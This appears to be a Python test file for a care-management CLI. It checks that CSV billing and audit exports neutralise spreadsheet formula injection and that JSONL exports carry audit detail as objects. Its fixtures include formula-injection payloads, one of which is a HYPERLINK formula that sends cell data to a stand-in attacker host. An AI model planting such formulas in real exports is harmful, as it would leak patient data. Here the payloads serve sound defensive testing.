"""`ccm-pwa billing report` and `ccm-pwa audit export` as a biller or auditor gets them:
formula cells inert in CSV, the audit detail a JSON object in JSONL (security probe)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from pathlib import Path

from sqlmodel import Session, select

from ccm_pwa.auth.audit import record_audit
from ccm_pwa.models import AuditEvent, Patient
from ccm_pwa.services.demo_practice import create_demo_practice
from tests.db.test_cli import run_cli

FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?d="&B2,"Call")', "+1 555 0100", "-2+3",
                 "@SUM(A1:A9)", "\tTab", "\rReturn"]


def rename_billed(session: Session, mrns: list[str], family: list[str]) -> dict[str, str]:
    """Give the billed patients these family names in turn (as an EHR panel import could);
    their new "Family, Given" billing name by MRN."""
    assert len(mrns) >= len(family)
    names = {}
    for index, mrn in enumerate(mrns):
        patient = session.exec(select(Patient).where(Patient.mrn == mrn)).one()
        patient.family_name = family[index % len(family)]
        names[mrn] = f"{patient.family_name}, {patient.given_name}"
        session.add(patient)
    session.commit()
    return names
HYPERLINK_MRN = '=HYPERLINK("http://evil.example","MRN")'


def _demo(session: Session) -> None:
    create_demo_practice(session=session, patients=24, care_managers=2, seed=3,
                         today=date(2026, 11, 23))
    session.commit()


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_cli_billing_report_runs_no_formula(db_url: str, session: Session,
                                                tmp_path: Path) -> None:
    _demo(session)
    report = ("billing", "report", "--month", "2026-10", "--format", "csv")
    before = run_cli(*report, db_url=db_url, data_dir=tmp_path)
    assert before.returncode == 0, before.stderr
    # Not the CR name here: the CLI's output is read in text mode, which turns a CR into \n
    # (the API tests read the bytes and cover it).
    names = rename_billed(session, sorted({r["mrn"] for r in _rows(before.stdout)}),
                          [name for name in FORMULA_NAMES if not name.startswith("\r")])
    after = run_cli(*report, db_url=db_url, data_dir=tmp_path)
    assert after.returncode == 0, after.stderr
    for old, new in zip(_rows(before.stdout), _rows(after.stdout), strict=True):
        assert new["patient_name"] == "'" + names[new["mrn"]]
        assert {k: v for k, v in new.items() if k != "patient_name"} == \
            {k: v for k, v in old.items() if k != "patient_name"}


def _audit_rows(session: Session) -> None:
    _demo(session)
    patient = session.exec(select(Patient).order_by(Patient.mrn)).first()
    patient.mrn = HYPERLINK_MRN  # MRNs arrive with the EHR's panel file
    session.add(patient)
    record_audit(session=session, action="audit_packet.export", patient_id=patient.id,
                 client="cli user=ops host=h", detail={"month": "2026-10", "offset": -5},
                 occurred_at=datetime(2026, 11, 30, 15, 0, tzinfo=UTC))
    # a detail stored as JSON text (not as an object) is exported as the object it holds
    session.add(AuditEvent(action="legacy.row", detail='{"month": "2026-09"}',
                           occurred_at=datetime(2026, 11, 30, 16, 0, tzinfo=UTC)))
    session.commit()


SINCE = ("audit", "export", "--since", "2026-11-30")


def test_the_audit_csv_export_runs_no_formula(db_url: str, session: Session,
                                              tmp_path: Path) -> None:
    _audit_rows(session)
    exported = run_cli(*SINCE, "--format", "csv", db_url=db_url, data_dir=tmp_path)
    assert exported.returncode == 0, exported.stderr
    [packet] = [r for r in _rows(exported.stdout) if r["action"] == "audit_packet.export"]
    assert packet["patient_mrn"] == "'" + HYPERLINK_MRN
    assert packet["occurred_at"] == "2026-11-30T15:00:00+00:00"
    assert json.loads(packet["detail"]) == {"month": "2026-10", "offset": -5}
    assert packet["client"] == "cli user=ops host=h"


def test_the_audit_jsonl_export_carries_detail_as_an_object(db_url: str, session: Session,
                                                            tmp_path: Path) -> None:
    """An object, not JSON text inside the line (`"detail": "{\\"month\\": …}"`), so a log
    tool can query its fields; a detail stored as JSON text is parsed first."""
    _audit_rows(session)
    lines = run_cli(*SINCE, "--format", "jsonl", db_url=db_url, data_dir=tmp_path)
    assert lines.returncode == 0, lines.stderr
    by_action = {e["action"]: e for e in map(json.loads, lines.stdout.splitlines())}
    assert by_action["audit_packet.export"]["detail"] == {"month": "2026-10", "offset": -5}
    assert by_action["audit_packet.export"]["patient_mrn"] == HYPERLINK_MRN  # JSON: as stored
    assert by_action["legacy.row"]["detail"] == {"month": "2026-09"}
